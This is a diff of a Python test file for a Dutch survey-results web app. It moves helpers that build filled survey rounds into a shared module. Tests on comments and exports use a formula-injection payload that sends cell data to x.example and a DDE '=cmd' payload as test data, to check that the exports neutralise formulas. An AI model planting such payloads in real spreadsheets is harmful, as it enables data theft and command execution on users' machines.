@@ -5,52 +5,17 @@ from __future__ import annotations
 
 import csv
 import io
-import random
 from datetime import date, timedelta
 
 import pytest
 import sqlalchemy as sa
 
 from maturity.extensions import db
-from maturity.rounds import links, services
+from maturity.rounds import services
 from maturity.results import publication
-from maturity.rounds.models import Invitation
-from maturity.tenancy.models import OrgRole
 
 from ..conftest import count_queries
-from ..factories import DepartmentFactory, member
-from .test_rounds import full_answers
-
-
-def _fill(app, world, sizes: dict[str, int], customers: int = 0, comments=(), seed=3, close=True):
-    """A round in our organisation with ``sizes`` responses per department (real submits)."""
-    rng = random.Random(seed)
-    org = world.ours.org
-    for name, size in sizes.items():
-        department = DepartmentFactory(organisation_id=org.id, name=name)
-        for _ in range(size):
-            member(org, OrgRole.EMPLOYEE, department)
-    round_ = services.create_round(org, services.RoundSettings(
-        title="Meting", opens_on=date.today(), closes_on=date.today() + timedelta(days=9)))
-    services.open_round(round_)
-    with app.test_request_context():
-        services.invite_employees(round_)
-        department_of = {d.id: d.name for d in db.session.scalars(sa.select(type(department)))}
-        for invitation in db.session.scalars(sa.select(Invitation).where(Invitation.round_id == round_.id)):
-            if department_of.get(invitation.department_id) not in sizes:
-                continue
-            token = links.invitation_token(invitation.id, invitation.nonce)
-            services.save_answers(invitation, token, full_answers(likert=str(rng.randint(2, 5)), mark=str(rng.randint(5, 9))))
-            services.submit_response(invitation, token)
-        for i in range(customers):
-            services.submit_customer_response(
-                round_, {k: str(rng.randint(4, 8)) for k in full_answers() if k.endswith(".self")} and
-                {f"mirror.m{j}.customer": str(rng.randint(4, 8)) for j in range(1, 6)},
-                comments[i] if i < len(comments) else "", "nl")
-        if close:
-            publication.close(round_)  # publishes: the ballot box is released
-    db.session.flush()
-    return round_
+from ..helpers import bulk_responses, filled_round
 
 
 def _url(world, round_, suffix="results"):
@@ -58,7 +23,7 @@ def _url(world, round_, suffix="results"):
 
 
 def test_results_page_shows_phase_dimensions_mirror_and_departments(app, client, auth, world):
-    round_ = _fill(app, world, {"Wonen": 6, "Verhuur": 7}, customers=6, comments=["Prima service"] * 6)
+    round_ = filled_round(app, world, {"Wonen": 6, "Verhuur": 7}, customers=6, comments=["Prima service"] * 6)
     auth.login(world.ours.director)
     html = client.get(_url(world, round_)).get_data(as_text=True)
     assert "Fase" in html and any(p in html for p in ("onwetend", "klantgericht", "klantbewust", "klantbekwaam"))
@@ -69,7 +34,7 @@ def test_results_page_shows_phase_dimensions_mirror_and_departments(app, client,
 
 
 def test_below_the_minimum_nothing_is_shown_anywhere(app, client, auth, world):
-    round_ = _fill(app, world, {"Wonen": 4})
+    round_ = filled_round(app, world, {"Wonen": 4})
     auth.login(world.ours.director)
     html = client.get(_url(world, round_)).get_data(as_text=True)
     assert "Te weinig reacties" in html and "Medewerkers denken dat" not in html and "Fase</p>" not in html
@@ -78,7 +43,7 @@ def test_below_the_minimum_nothing_is_shown_anywhere(app, client, auth, world):
 
 
 def test_a_small_department_and_its_complement_are_hidden(app, client, auth, world):
-    round_ = _fill(app, world, {"Groot": 8, "Middel": 6, "Klein": 2})
+    round_ = filled_round(app, world, {"Groot": 8, "Middel": 6, "Klein": 2})
     auth.login(world.ours.director)
     html = client.get(_url(world, round_)).get_data(as_text=True)
     section = html[html.index('id="departments"'):html.index('id="comments"')]
@@ -97,7 +62,7 @@ def test_customer_comments_above_their_threshold(app, client, auth, world):
     from openpyxl import load_workbook
 
     formula = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
-    round_ = _fill(app, world, {"Wonen": 6}, customers=10, comments=[formula, "Goed bereikbaar"])
+    round_ = filled_round(app, world, {"Wonen": 6}, customers=10, comments=[formula, "Goed bereikbaar"])
     auth.login(world.ours.director)
     html = client.get(_url(world, round_)).get_data(as_text=True)
     assert "Goed bereikbaar" in html
@@ -121,7 +86,7 @@ def test_exports_neutralise_formulas(app, client, auth, world):
     # A plain number is data, not a formula (a mirror gap is written as "+1,0").
     assert neutralise("+1,0") == "+1,0" and neutralise("-0.5") == "-0.5"
     assert neutralise(4.5) == 4.5
-    round_ = _fill(app, world, {"=cmd|' /C calc'!A0": 6})
+    round_ = filled_round(app, world, {"=cmd|' /C calc'!A0": 6})
     auth.login(world.ours.director)
     text = client.get(_url(world, round_, "results.csv")).get_data(as_text=True)
     assert "'=cmd|" in text and ";=cmd|" not in text
@@ -132,65 +97,17 @@ def test_exports_neutralise_formulas(app, client, auth, world):
     assert "'=cmd|' /C calc'!A0" in values and not any(isinstance(v, str) and v.startswith("=") for v in values)
 
 
-def _bulk(round_, world, n: int, customers: int, seed: int = 5) -> None:
-    """n responses and answers inserted in bulk (submitting 1,000 one by one would be slow)."""
-    from maturity.rounds.models import CustomerAnswer, CustomerResponse, Response, ResponseAnswer
-
-    rng = random.Random(seed)
-    from maturity.organisations.services import department_named
-
-    org = db.session.get(type(world.ours.org), round_.organisation_id)
-    departments = [department_named(org, f"Afdeling {i}").name for i in range(8)]
-    responses, answers = [], []
-    for i in range(n):
-        rid = f"{seed:04d}{i:028d}"
-        responses.append(dict(id=rid, round_id=round_.id, organisation_id=round_.organisation_id,
-                              department=rng.choice(departments),
-                              quiz_total=20, band="average", skills=rng.uniform(20, 90), leadership=rng.uniform(20, 90),
-                              culture=rng.uniform(20, 90), mirror_self=rng.uniform(40, 90), mirror_estimate=rng.uniform(40, 90)))
-        for key, value in full_answers(likert=str(rng.randint(1, 5)), mark=str(rng.randint(3, 10))).items():
-            answers.append(dict(response_id=rid, item_key=key, choice=value if key.startswith("quiz.") else None,
-                                value=3 if key.startswith("quiz.") else int(value)))
-    db.session.execute(sa.insert(Response), responses)
-    db.session.execute(sa.insert(ResponseAnswer), answers)
-    customer_rows = [dict(id=f"c{seed:03d}{i:028d}", round_id=round_.id, organisation_id=round_.organisation_id,
-                          submitted_on=date.today(), language="nl", mirror_customer=rng.uniform(30, 90),
-                          comment=f"Opmerking {i}") for i in range(customers)]
-    if not customer_rows:
-        db.session.flush()
-        _published(round_)
-        return
-    db.session.execute(sa.insert(CustomerResponse), customer_rows)
-    db.session.execute(sa.insert(CustomerAnswer), [
-        dict(customer_response_id=c["id"], item_key=f"mirror.m{j}.customer", value=rng.randint(3, 10))
-        for c in customer_rows for j in range(1, 6)])
-    db.session.flush()
-    _published(round_)
-
-
-def _published(round_):
-    """Closed without going through the ballot box (the rows were bulk-inserted as released):
-    its tally is built from those rows, as ``flask rebuild-tallies`` would."""
-    from maturity.results import tally
-    from maturity.rounds.models import RoundStatus
-
-    round_.status = RoundStatus.CLOSED
-    db.session.flush()
-    tally.rebuild(round_)
-    db.session.flush()
-
-
 @pytest.mark.parametrize("suffix", ["results", "results.csv", "results.xlsx", "results/live.json"])
 def test_query_count_is_the_same_for_10_and_1000_responses(app, client, auth, world, suffix):
     # Both measured rounds have an earlier one, so both pages also compare with it.
-    _fill(app, world, {"Eerder": 6}, seed=2)
-    small = _fill(app, world, {"Wonen": 10}, customers=12, seed=1)
+    filled_round(app, world, {"Eerder": 6}, seed=2)
+    small = filled_round(app, world, {"Wonen": 10}, customers=12, seed=1)
     auth.login(world.ours.director)
     few = count_queries(client, _url(world, small, suffix))
     big = services.create_round(world.ours.org, services.RoundSettings(
         title="Groot", opens_on=date.today(), closes_on=date.today() + timedelta(days=9)))
     services.open_round(big)
-    _bulk(big, world, n=1000, customers=200)
+    bulk_responses(big, world, n=1000, customers=200)
     assert count_queries(client, _url(world, big, suffix)) == few
 
 
@@ -203,7 +120,7 @@ def test_alpha_in_sql_matches_the_pure_function(app, world):
     round_ = services.create_round(world.ours.org, services.RoundSettings(
         title="Alfa", opens_on=date.today(), closes_on=date.today() + timedelta(days=9)))
     services.open_round(round_)
-    _bulk(round_, world, n=60, customers=0, seed=9)
+    bulk_responses(round_, world, n=60, customers=0, seed=9)
     # "Weet ik niet": one item for some (filled in with their own mean), most of the scale for
     # others (left out).
     db.session.execute(sa.update(ResponseAnswer).where(ResponseAnswer.item_key == "culture.c2",
@@ -248,7 +165,7 @@ def test_alpha_in_sql_matches_the_pure_function(app, world):
 def test_the_customer_mirror_has_its_own_minimum(app, client, auth, world, minimum, shown):
     from maturity.results.services import round_results
 
-    round_ = _fill(app, world, {"Wonen": 6}, customers=6, close=False)
+    round_ = filled_round(app, world, {"Wonen": 6}, customers=6, close=False)
     round_.min_customer_group_size = minimum
     with app.test_request_context():
         publication.close(round_)
